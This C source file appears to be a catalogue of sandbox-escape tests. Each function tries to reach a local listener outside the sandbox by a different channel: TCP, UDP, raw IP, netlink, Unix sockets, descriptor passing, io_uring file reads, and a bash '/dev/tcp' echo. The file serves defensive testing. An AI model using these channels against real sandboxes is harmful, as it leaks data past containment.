/* Tells somebody outside, by whatever socket. */

#include "attack.h"
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <linux/io_uring.h>

static struct sockaddr_in v4(const char *key) {
    return (struct sockaddr_in){AF_INET, htons((uint16_t)number(key)), {htonl(INADDR_LOOPBACK)}, {0}};
}

/* The same address, as IPv6 has it. */
static struct sockaddr_in6 mapped(const char *key) {
    struct sockaddr_in6 address = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)number(key))};
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &address.sin6_addr);
    return address;
}

static struct sockaddr_un at(const char *file) {
    struct sockaddr_un address = {AF_UNIX, ""};
    strncpy(address.sun_path, file, sizeof address.sun_path - 1);
    return address;
}

/* Paths of sockets are short: from the directory outside. */
static void go_outside(void) {
    chdir(outside(""));
}

#define TO(address) (struct sockaddr *)&(address), sizeof (address)

static void talk_to(int family, int kind, int protocol, struct sockaddr *address, socklen_t length) {
    int file = socket(family, kind, protocol);
    if (connect(file, address, length) == 0)
        mark(file);
    else
        perror("connect");
}

static void tcp(void) {
    struct sockaddr_in address = v4("tcp");
    talk_to(AF_INET, SOCK_STREAM, 0, TO(address));
}

static void tcp_over_ipv6(void) {
    struct sockaddr_in6 address = mapped("tcp");
    talk_to(AF_INET6, SOCK_STREAM, 0, TO(address));
}

static void multipath_tcp(void) {
    struct sockaddr_in address = v4("tcp");
    talk_to(AF_INET, SOCK_STREAM, IPPROTO_MPTCP, TO(address));
}

static void tcp_fast_open(void) {
    struct sockaddr_in address = v4("tcp");
    int file = socket(AF_INET, SOCK_STREAM, 0);
    sendto(file, "owned", 5, MSG_FASTOPEN, TO(address));
}

static void tcp_fast_open_by_an_option(void) {
    struct sockaddr_in address = v4("tcp");
    int file = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    setsockopt(file, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof on);
    if (connect(file, TO(address)) == 0)
        mark(file);
}

static void tcp_without_blocking(void) {
    struct sockaddr_in address = v4("tcp");
    talk_to(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_TCP, TO(address));
    connect(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), TO(address));
}

static void tcp_by_a_shell(void) {
    execlp("bash", "bash", "-c", text("echo owned >/dev/tcp/127.0.0.1/%d", number("tcp")), NULL);
}

static void udp(void) {
    struct sockaddr_in address = v4("udp");
    sendto(socket(AF_INET, SOCK_DGRAM, 0), name, strlen(name), 0, TO(address));
}

static void udp_connected(void) {
    struct sockaddr_in address = v4("udp");
    talk_to(AF_INET, SOCK_DGRAM, 0, TO(address));
}

static void udp_over_ipv6(void) {
    struct sockaddr_in6 address = mapped("udp");
    sendto(socket(AF_INET6, SOCK_DGRAM, 0), name, strlen(name), 0, TO(address));
}

static struct msghdr message(void *address, socklen_t length) {
    static struct iovec piece;
    piece = (struct iovec){(void *)name, strlen(name)};
    return (struct msghdr){.msg_name = address, .msg_namelen = length, .msg_iov = &piece, .msg_iovlen = 1};
}

static void udp_by_sendmsg(void) {
    struct sockaddr_in address = v4("udp");
    struct msghdr header = message(&address, sizeof address);
    sendmsg(socket(AF_INET, SOCK_DGRAM, 0), &header, 0);
}

static void udp_by_sendmmsg(void) {
    struct sockaddr_in address = v4("udp");
    struct mmsghdr headers[2] = {{message(&address, sizeof address), 0}, {message(&address, sizeof address), 0}};
    sendmmsg(socket(AF_INET, SOCK_DGRAM, 0), headers, 2, 0);
}

/* The flags by which a launcher tells its own messages from a script's. */
static void udp_with_odd_flags(void) {
    struct sockaddr_in address = v4("udp");
    struct msghdr header = message(&address, sizeof address);
    sendmsg(socket(AF_INET, SOCK_DGRAM, 0), &header, MSG_CONFIRM | MSG_DONTROUTE);
}

/* A datagram with all its headers. */
static size_t datagram(char *bytes) {
    struct iphdr *ip = (struct iphdr *)bytes;
    struct udphdr *header = (struct udphdr *)(ip + 1);
    size_t length = sizeof *ip + sizeof *header + strlen(name);
    memset(bytes, 0, length);
    *ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 9, .protocol = IPPROTO_UDP, .tot_len = htons((uint16_t)length),
                         .saddr = htonl(INADDR_LOOPBACK), .daddr = htonl(INADDR_LOOPBACK)};
    uint32_t sum = 0;
    for (int word = 0; word < 10; word++)
        sum += ((uint16_t *)bytes)[word];
    sum = (sum & 0xffff) + (sum >> 16);
    ip->check = (uint16_t)~(sum + (sum >> 16));
    header->source = htons(9);
    header->dest = htons((uint16_t)number("udp"));
    header->len = htons((uint16_t)(sizeof *header + strlen(name)));
    memcpy(header + 1, name, strlen(name));
    return length;
}

static void raw_ip(void) {
    char bytes[256];
    size_t length = datagram(bytes);
    struct sockaddr_in address = v4("udp");
    sendto(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), bytes, length, 0, TO(address));
}

static void netlink(void) {
    struct sockaddr_nl address = {.nl_family = AF_NETLINK, .nl_pid = (uint32_t)number("netlink")};
    sendto(socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK), name, strlen(name), 0, TO(address));
}

static void unix_stream(void) {
    go_outside();
    struct sockaddr_un address = at("stream");
    talk_to(AF_UNIX, SOCK_STREAM, 0, TO(address));
}

static void unix_datagram(void) {
    go_outside();
    struct sockaddr_un address = at("datagram");
    sendto(socket(AF_UNIX, SOCK_DGRAM, 0), name, strlen(name), 0, TO(address));
}

static void unix_datagram_connected(void) {
    go_outside();
    struct sockaddr_un address = at("datagram");
    talk_to(AF_UNIX, SOCK_DGRAM, 0, TO(address));
}

static void unix_datagram_by_sendmsg(void) {
    go_outside();
    struct sockaddr_un address = at("datagram");
    struct msghdr header = message(&address, sizeof address);
    sendmsg(socket(AF_UNIX, SOCK_DGRAM, 0), &header, 0);
}

/* One of a pair sends to whoever a message names. */
static void unix_datagram_from_a_pair(void) {
    int ends[2] = {-1, -1};
    go_outside();
    struct sockaddr_un address = at("datagram");
    socketpair(AF_UNIX, SOCK_DGRAM, 0, ends);
    sendto(ends[0], name, strlen(name), 0, TO(address));
}

static void unix_datagram_from_a_raw_pair(void) {
    int ends[2] = {-1, -1};
    go_outside();
    struct sockaddr_un address = at("datagram");
    socketpair(AF_UNIX, SOCK_RAW, 0, ends);
    sendto(ends[0], name, strlen(name), 0, TO(address));
}

static void unix_connect_again_from_a_pair(void) {
    int ends[2] = {-1, -1};
    go_outside();
    struct sockaddr_un address = at("datagram"), none = {AF_UNSPEC, ""};
    socketpair(AF_UNIX, SOCK_DGRAM, 0, ends);
    connect(ends[0], (struct sockaddr *)&none, sizeof(sa_family_t));
    if (connect(ends[0], TO(address)) == 0)
        mark(ends[0]);
}

static void unix_stream_through_a_link(void) {
    unlink(out("s"));
    symlink(outside("stream"), out("s"));
    chdir(getenv("OUT_DIR"));
    struct sockaddr_un address = at("s");
    talk_to(AF_UNIX, SOCK_STREAM, 0, TO(address));
    unlink("s");
}

static void unix_stream_by_descriptor(void) {
    struct sockaddr_un address = at(text("/proc/self/fd/%d", open(outside("stream"), O_PATH)));
    talk_to(AF_UNIX, SOCK_STREAM, 0, TO(address));
}

static struct sockaddr_un abstract(socklen_t *length, const char *kind) {
    const char *it = text("%s-%s-%s", told("id"), name, kind);
    struct sockaddr_un address = {AF_UNIX, ""};
    memcpy(address.sun_path + 1, it, strlen(it));
    *length = (socklen_t)(sizeof(sa_family_t) + 1 + strlen(it));
    return address;
}

static void abstract_stream(void) {
    socklen_t length;
    struct sockaddr_un address = abstract(&length, "stream");
    talk_to(AF_UNIX, SOCK_STREAM, 0, (struct sockaddr *)&address, length);
}

static void abstract_datagram(void) {
    socklen_t length;
    struct sockaddr_un address = abstract(&length, "datagram");
    int file = socket(AF_UNIX, SOCK_DGRAM, 0);
    /* It binds itself to an abstract address of the kernel's choosing. */
    bind(file, (struct sockaddr *)&address, sizeof(sa_family_t));
    sendto(file, name, strlen(name), 0, (struct sockaddr *)&address, length);
}

static void abstract_datagram_from_a_pair(void) {
    int ends[2] = {-1, -1};
    socklen_t length;
    struct sockaddr_un address = abstract(&length, "datagram");
    socketpair(AF_UNIX, SOCK_DGRAM, 0, ends);
    sendto(ends[0], name, strlen(name), 0, (struct sockaddr *)&address, length);
}

/* A file that it may only read is handed to whoever listens: a daemon of the user's, in a real attack. */
static void pass_a_descriptor(void) {
    go_outside();
    struct sockaddr_un address = at("stream");
    int file = socket(AF_UNIX, SOCK_STREAM, 0), passed = open("src/lib.rs", O_RDONLY);
    char space[CMSG_SPACE(sizeof passed)];
    struct msghdr header = message(NULL, 0);
    header.msg_control = space;
    header.msg_controllen = sizeof space;
    struct cmsghdr *control = CMSG_FIRSTHDR(&header);
    control->cmsg_level = SOL_SOCKET;
    control->cmsg_type = SCM_RIGHTS;
    control->cmsg_len = CMSG_LEN(sizeof passed);
    memcpy(CMSG_DATA(control), &passed, sizeof passed);
    if (connect(file, TO(address)) == 0)
        sendmsg(file, &header, 0);
}

/* A ring makes, connects and sends without a system call for each (io_uring(7)). */
struct ring {
    int file;
    unsigned *tail, *mask, *completed, *completed_mask;
    struct io_uring_sqe *entries;
    struct io_uring_cqe *results;
    unsigned *array;
};

static int begin_ring(struct ring *ring) {
    struct io_uring_params params;
    memset(&params, 0, sizeof params);
    ring->file = (int)syscall(SYS_io_uring_setup, 8, &params);
    if (ring->file < 0)
        return -1;
    char *queue = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring->file, IORING_OFF_SQ_RING);
    char *done = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring->file, IORING_OFF_CQ_RING);
    if (queue == MAP_FAILED || done == MAP_FAILED) {
        size_t own = params.sq_off.array + params.sq_entries * sizeof(unsigned);
        size_t all = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
        queue = mmap(NULL, own, PROT_READ | PROT_WRITE, MAP_SHARED, ring->file, IORING_OFF_SQ_RING);
        done = mmap(NULL, all, PROT_READ | PROT_WRITE, MAP_SHARED, ring->file, IORING_OFF_CQ_RING);
    }
    ring->entries = mmap(NULL, params.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED,
                         ring->file, IORING_OFF_SQES);
    ring->tail = (unsigned *)(queue + params.sq_off.tail);
    ring->mask = (unsigned *)(queue + params.sq_off.ring_mask);
    ring->array = (unsigned *)(queue + params.sq_off.array);
    ring->completed = (unsigned *)(done + params.cq_off.head);
    ring->completed_mask = (unsigned *)(done + params.cq_off.ring_mask);
    ring->results = (struct io_uring_cqe *)(done + params.cq_off.cqes);
    return 0;
}

static int submit(struct ring *ring, struct io_uring_sqe entry) {
    unsigned place = *ring->tail & *ring->mask;
    ring->entries[place] = entry;
    ring->array[place] = place;
    __atomic_store_n(ring->tail, *ring->tail + 1, __ATOMIC_RELEASE);
    syscall(SYS_io_uring_enter, ring->file, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    int result = ring->results[*ring->completed & *ring->completed_mask].res;
    __atomic_store_n(ring->completed, *ring->completed + 1, __ATOMIC_RELEASE);
    return result;
}

static void udp_by_a_ring(void) {
    struct ring ring;
    struct sockaddr_in address = v4("udp");
    struct msghdr header = message(&address, sizeof address);
    if (begin_ring(&ring))
        return;
    int file = submit(&ring, (struct io_uring_sqe){.opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_DGRAM});
    submit(&ring, (struct io_uring_sqe){.opcode = IORING_OP_SENDMSG, .fd = file, .addr = (uintptr_t)&header, .len = 1});
}

static void write_by_a_ring(void) {
    struct ring ring;
    if (begin_ring(&ring))
        return;
    int file = submit(&ring, (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
                                                   .addr = (uintptr_t)outside("file"), .open_flags = O_WRONLY});
    submit(&ring, (struct io_uring_sqe){.opcode = IORING_OP_WRITE, .fd = file, .addr = (uintptr_t)"owned", .len = 5});
}

static void read_by_a_ring(void) {
    struct ring ring;
    static char bytes[256];
    if (begin_ring(&ring))
        return;
    int file = submit(&ring, (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
                                                   .addr = (uintptr_t)outside("secret"), .open_flags = O_RDONLY});
    submit(&ring, (struct io_uring_sqe){.opcode = IORING_OP_READ, .fd = file, .addr = (uintptr_t)bytes, .len = 256});
    loot(bytes, strlen(bytes));
}

const struct attack NETWORK[] = {
    ATTACK(tcp),
    ATTACK(tcp_over_ipv6),
    ATTACK(multipath_tcp),
    ATTACK(tcp_fast_open),
    ATTACK(tcp_fast_open_by_an_option),
    ATTACK(tcp_without_blocking),
    ATTACK(tcp_by_a_shell),
    ATTACK(udp),
    ATTACK(udp_connected),
    ATTACK(udp_over_ipv6),
    ATTACK(udp_by_sendmsg),
    ATTACK(udp_by_sendmmsg),
    ATTACK(udp_with_odd_flags),
    ATTACK(raw_ip),
    ATTACK(netlink),
    ATTACK(unix_stream),
    ATTACK(unix_datagram),
    ATTACK(unix_datagram_connected),
    ATTACK(unix_datagram_by_sendmsg),
    ATTACK(unix_datagram_from_a_pair),
    ATTACK(unix_datagram_from_a_raw_pair),
    ATTACK(unix_connect_again_from_a_pair),
    ATTACK(unix_stream_through_a_link),
    ATTACK(unix_stream_by_descriptor),
    ATTACK(abstract_stream),
    ATTACK(abstract_datagram),
    ATTACK(abstract_datagram_from_a_pair),
    ATTACK(pass_a_descriptor),
    ATTACK(udp_by_a_ring),
    ATTACK(write_by_a_ring),
    ATTACK(read_by_a_ring),
    {0},
};
